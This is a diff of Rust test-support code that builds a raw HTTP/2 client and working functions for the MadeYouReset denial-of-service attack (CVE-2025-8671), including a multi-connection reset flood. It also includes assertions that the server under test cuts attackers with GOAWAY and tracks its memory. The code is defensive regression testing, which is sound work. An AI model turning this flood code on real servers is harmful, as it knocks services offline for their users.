@@ -633,3 +633,352 @@ pub async fn raw_exchange(
         .nth(1)
         .and_then(|s| s.parse().ok()))
 }
+
+// A hand-written HTTP/2 client, for frames no well-behaved client sends.
+
+/// What a client sends first on an HTTP/2 connection (RFC 9113 §3.4).
+pub const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+pub const H2_HEADERS: u8 = 0x1;
+pub const H2_RST_STREAM: u8 = 0x3;
+pub const H2_SETTINGS: u8 = 0x4;
+pub const H2_PING: u8 = 0x6;
+pub const H2_GOAWAY: u8 = 0x7;
+pub const H2_WINDOW_UPDATE: u8 = 0x8;
+pub const H2_END_STREAM: u8 = 0x1;
+pub const H2_ACK: u8 = 0x1;
+pub const H2_END_HEADERS: u8 = 0x4;
+pub const H2_SETTINGS_MAX_CONCURRENT_STREAMS: u16 = 0x3;
+pub const H2_REFUSED_STREAM: u32 = 0x7;
+pub const H2_ENHANCE_YOUR_CALM: u32 = 0xb;
+/// The largest flow-control window (RFC 9113 §6.9.1).
+pub const H2_MAX_WINDOW: u32 = 0x7fff_ffff;
+
+/// Appends one frame: the 9-byte header (RFC 9113 §4.1), then `payload`.
+pub fn h2_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    let len = u32::try_from(payload.len()).expect("frame payload fits 24 bits");
+    assert!(len < 1 << 24, "frame payload fits 24 bits");
+    out.extend_from_slice(&len.to_be_bytes()[1..]);
+    out.push(kind);
+    out.push(flags);
+    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
+    out.extend_from_slice(payload);
+}
+
+/// A SETTINGS frame with `params`.
+pub fn h2_settings(out: &mut Vec<u8>, params: &[(u16, u32)]) {
+    let payload: Vec<u8> = params
+        .iter()
+        .flat_map(|(id, v)| id.to_be_bytes().into_iter().chain(v.to_be_bytes()))
+        .collect();
+    h2_frame(out, H2_SETTINGS, 0, 0, &payload);
+}
+
+/// A HEADERS frame opening `stream` with `headers`, each encoded as an
+/// HPACK literal without indexing and without Huffman (RFC 7541 §6.2.2), so
+/// the encoder keeps no table.
+pub fn h2_headers(out: &mut Vec<u8>, stream: u32, headers: &[(&str, &str)], end_stream: bool) {
+    let mut block = Vec::new();
+    for (name, value) in headers {
+        // Literal without indexing, new name.
+        block.push(0);
+        for s in [name, value] {
+            // A 7-bit length prefix holds up to 126 in one byte.
+            let len = u8::try_from(s.len()).ok().filter(|l| *l < 127);
+            block.push(len.expect("header name or value under 127 bytes"));
+            block.extend_from_slice(s.as_bytes());
+        }
+    }
+    let flags = H2_END_HEADERS | if end_stream { H2_END_STREAM } else { 0 };
+    h2_frame(out, H2_HEADERS, flags, stream, &block);
+}
+
+/// A WINDOW_UPDATE of `increment` on `stream` (0: the connection).
+pub fn h2_window_update(out: &mut Vec<u8>, stream: u32, increment: u32) {
+    h2_frame(out, H2_WINDOW_UPDATE, 0, stream, &increment.to_be_bytes());
+}
+
+/// What the server has sent on a raw HTTP/2 connection so far.
+#[derive(Debug, Clone, Default)]
+pub struct H2Seen {
+    /// RST_STREAM frames, of any code.
+    pub resets: u64,
+    /// RST_STREAM frames with REFUSED_STREAM.
+    pub refused: u64,
+    /// HEADERS frames (responses).
+    pub headers: u64,
+    /// The first GOAWAY: last stream id and error code.
+    pub goaway: Option<(u32, u32)>,
+    /// SETTINGS_MAX_CONCURRENT_STREAMS from the server's first SETTINGS.
+    pub max_concurrent_streams: Option<u32>,
+    pub settings_seen: bool,
+    /// The server closed the connection (or it failed).
+    pub closed: bool,
+}
+
+/// A raw HTTP/2 connection: frames are written by hand, and a task reads the
+/// server's frames as fast as they come (so the server never waits on its
+/// writes), answers its SETTINGS and PINGs, and records what it saw.
+pub struct RawH2 {
+    writer: Arc<tokio::sync::Mutex<tokio::net::tcp::OwnedWriteHalf>>,
+    seen: tokio::sync::watch::Receiver<H2Seen>,
+    reader: JoinHandle<()>,
+}
+
+impl Drop for RawH2 {
+    fn drop(&mut self) {
+        self.reader.abort();
+    }
+}
+
+impl RawH2 {
+    /// Connects, sends the preface and empty SETTINGS.
+    pub async fn connect(addr: SocketAddr) -> std::io::Result<RawH2> {
+        let tcp = TcpStream::connect(addr).await?;
+        tcp.set_nodelay(true)?;
+        let (mut rd, wr) = tcp.into_split();
+        let writer = Arc::new(tokio::sync::Mutex::new(wr));
+        let (tx, seen) = tokio::sync::watch::channel(H2Seen::default());
+        let w = writer.clone();
+        let reader = tokio::spawn(async move {
+            let mut head = [0u8; 9];
+            let mut payload = Vec::new();
+            loop {
+                if rd.read_exact(&mut head).await.is_err() {
+                    break;
+                }
+                let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
+                let (kind, flags) = (head[3], head[4]);
+                payload.resize(len, 0);
+                if rd.read_exact(&mut payload).await.is_err() {
+                    break;
+                }
+                let mut answer = Vec::new();
+                match kind {
+                    H2_RST_STREAM if len == 4 => {
+                        let code =
+                            u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]]);
+                        tx.send_modify(|s| {
+                            s.resets += 1;
+                            s.refused += u64::from(code == H2_REFUSED_STREAM);
+                        });
+                    }
+                    H2_HEADERS => tx.send_modify(|s| s.headers += 1),
+                    H2_GOAWAY if len >= 8 => {
+                        let last =
+                            u32::from_be_bytes([payload[0], payload[1], payload[2], payload[3]])
+                                & 0x7fff_ffff;
+                        let code =
+                            u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]);
+                        tx.send_modify(|s| {
+                            s.goaway.get_or_insert((last, code));
+                        });
+                    }
+                    H2_SETTINGS if flags & H2_ACK == 0 => {
+                        let max = payload.chunks_exact(6).find_map(|p| {
+                            (u16::from_be_bytes([p[0], p[1]]) == H2_SETTINGS_MAX_CONCURRENT_STREAMS)
+                                .then(|| u32::from_be_bytes([p[2], p[3], p[4], p[5]]))
+                        });
+                        tx.send_modify(|s| {
+                            if !s.settings_seen {
+                                s.settings_seen = true;
+                                s.max_concurrent_streams = max;
+                            }
+                        });
+                        h2_frame(&mut answer, H2_SETTINGS, H2_ACK, 0, &[]);
+                    }
+                    H2_PING if flags & H2_ACK == 0 => {
+                        h2_frame(&mut answer, H2_PING, H2_ACK, 0, &payload);
+                    }
+                    _ => {}
+                }
+                if !answer.is_empty() {
+                    let _ = w.lock().await.write_all(&answer).await;
+                }
+            }
+            tx.send_modify(|s| s.closed = true);
+        });
+        let c = RawH2 {
+            writer,
+            seen,
+            reader,
+        };
+        let mut hello = H2_PREFACE.to_vec();
+        h2_settings(&mut hello, &[]);
+        c.send(&hello).await?;
+        Ok(c)
+    }
+
+    pub async fn send(&self, bytes: &[u8]) -> std::io::Result<()> {
+        self.writer.lock().await.write_all(bytes).await
+    }
+
+    pub fn seen(&self) -> H2Seen {
+        self.seen.borrow().clone()
+    }
+
+    /// Waits until what was seen satisfies `done`, for at most `limit`.
+    pub async fn wait_for(&self, limit: Duration, done: impl Fn(&H2Seen) -> bool) -> H2Seen {
+        let mut seen = self.seen.clone();
+        let _ = tokio::time::timeout(limit, seen.wait_for(|s| done(s))).await;
+        self.seen()
+    }
+}
+
+/// The outcome of one MadeYouReset connection.
+#[derive(Debug, Clone)]
+pub struct ResetAttack {
+    /// Streams the attacker opened.
+    pub opened: u64,
+    pub seen: H2Seen,
+}
+
+/// Streams opened per write: enough to outrun the server, few enough that
+/// the attacker stops soon after the GOAWAY.
+const RESET_BATCH: u32 = 32;
+
+/// MadeYouReset (CVE-2025-8671) on one connection: opens streams with
+/// `headers` (without END_STREAM, so the request is being served), each
+/// followed at once by a WINDOW_UPDATE on that stream that takes its send
+/// window past 2^31-1, a stream error (FLOW_CONTROL_ERROR) the server must
+/// answer with RST_STREAM. (h2 takes an increment of 0 for a connection
+/// error, so that frame would cut the connection at once.) Goes on until the server sends
+/// GOAWAY or closes, `max_streams` are opened, or `limit` has passed; then
+/// waits briefly for the server's last frames.
+pub async fn made_you_reset(
+    addr: SocketAddr,
+    headers: &[(&str, &str)],
+    max_streams: u64,
+    limit: Duration,
+) -> ResetAttack {
+    let started = Instant::now();
+    let c = RawH2::connect(addr).await.expect("connect the attacker");
+    let mut opened = 0u64;
+    let mut id = 1u32;
+    while opened < max_streams && started.elapsed() < limit {
+        let s = c.seen();
+        if s.goaway.is_some() || s.closed {
+            break;
+        }
+        let mut batch = Vec::new();
+        for _ in 0..RESET_BATCH {
+            h2_headers(&mut batch, id, headers, false);
+            h2_window_update(&mut batch, id, H2_MAX_WINDOW);
+            id += 2;
+            opened += 1;
+        }
+        if c.send(&batch).await.is_err() {
+            break;
+        }
+    }
+    let seen = c
+        .wait_for(Duration::from_secs(2), |s| s.goaway.is_some() || s.closed)
+        .await;
+    ResetAttack { opened, seen }
+}
+
+/// MadeYouReset from `attackers` clients at once, each opening connection
+/// after connection (at most `max_connections` each) until `held` has
+/// passed; every connection stops at the server's GOAWAY or after
+/// `max_streams` streams. Returns each connection's outcome.
+pub async fn reset_flood(
+    addr: SocketAddr,
+    headers: &[(&str, &str)],
+    attackers: usize,
+    max_connections: usize,
+    max_streams: u64,
+    held: Duration,
+) -> Vec<ResetAttack> {
+    let started = Instant::now();
+    let mut set = JoinSet::new();
+    for _ in 0..attackers {
+        let headers: Vec<(String, String)> = headers
+            .iter()
+            .map(|(n, v)| (n.to_string(), v.to_string()))
+            .collect();
+        set.spawn(async move {
+            let headers: Vec<(&str, &str)> = headers
+                .iter()
+                .map(|(n, v)| (n.as_str(), v.as_str()))
+                .collect();
+            let mut outcomes = Vec::new();
+            while outcomes.len() < max_connections && started.elapsed() < held {
+                // A connection that is never cut is given the whole hold.
+                let left = held.saturating_sub(started.elapsed());
+                let limit = left.max(Duration::from_secs(1));
+                outcomes.push(made_you_reset(addr, &headers, max_streams, limit).await);
+            }
+            outcomes
+        });
+    }
+    let mut all = Vec::new();
+    while let Some(r) = set.join_next().await {
+        all.extend(r.expect("attacker task"));
+    }
+    all
+}
+
+/// Asserts every attacking connection was cut by GOAWAY with
+/// ENHANCE_YOUR_CALM after at most `max_resets` stream resets.
+pub fn assert_cut_after(case: &str, attacks: &[ResetAttack], max_resets: u64) {
+    let most = attacks.iter().map(|a| a.seen.resets).max().unwrap_or(0);
+    let opened: u64 = attacks.iter().map(|a| a.opened).sum();
+    let resets: u64 = attacks.iter().map(|a| a.seen.resets).sum();
+    eprintln!(
+        "{case}: {} attacking connections, {opened} streams opened, {resets} resets \
+         (at most {most} on one connection; allowed {max_resets})",
+        attacks.len()
+    );
+    assert!(!attacks.is_empty(), "{case}: no attacking connection");
+    for a in attacks {
+        assert!(
+            a.seen.goaway.map(|(_, code)| code) == Some(H2_ENHANCE_YOUR_CALM),
+            "{case}: a connection was not cut with GOAWAY ENHANCE_YOUR_CALM: {a:?}"
+        );
+        assert!(
+            a.seen.resets <= max_resets,
+            "{case}: the server reset {} streams on one connection before its GOAWAY \
+             (allowed {max_resets}): {a:?}",
+            a.seen.resets
+        );
+    }
+}
+
+/// One sample of jemalloc's allocated bytes from an admin server's /metrics.
+pub async fn allocated(admin: SocketAddr) -> Option<u64> {
+    let (status, body) = crate::support::http_get(admin, "/metrics").await;
+    if status != 200 {
+        return None;
+    }
+    body.lines()
+        .find_map(|l| l.strip_prefix("process_memory_allocated_bytes "))
+        .and_then(|v| v.trim().parse::<f64>().ok())
+        .map(|v| v as u64)
+}
+
+/// The highest allocated bytes a process reported on /metrics while it ran,
+/// sampled every 50 ms.
+pub struct AllocatedPeak {
+    stop: Arc<AtomicBool>,
+    task: JoinHandle<u64>,
+}
+
+impl AllocatedPeak {
+    pub fn start(admin: SocketAddr) -> AllocatedPeak {
+        let stop = Arc::new(AtomicBool::new(false));
+        let flag = stop.clone();
+        let task = tokio::spawn(async move {
+            let mut most = 0;
+            while !flag.load(Ordering::Relaxed) {
+                most = most.max(allocated(admin).await.unwrap_or(0));
+                tokio::time::sleep(Duration::from_millis(50)).await;
+            }
+            most.max(allocated(admin).await.unwrap_or(0))
+        });
+        AllocatedPeak { stop, task }
+    }
+
+    pub async fn stop(self) -> u64 {
+        self.stop.store(true, Ordering::Relaxed);
+        self.task.await.expect("allocated-bytes sampler")
+    }
+}
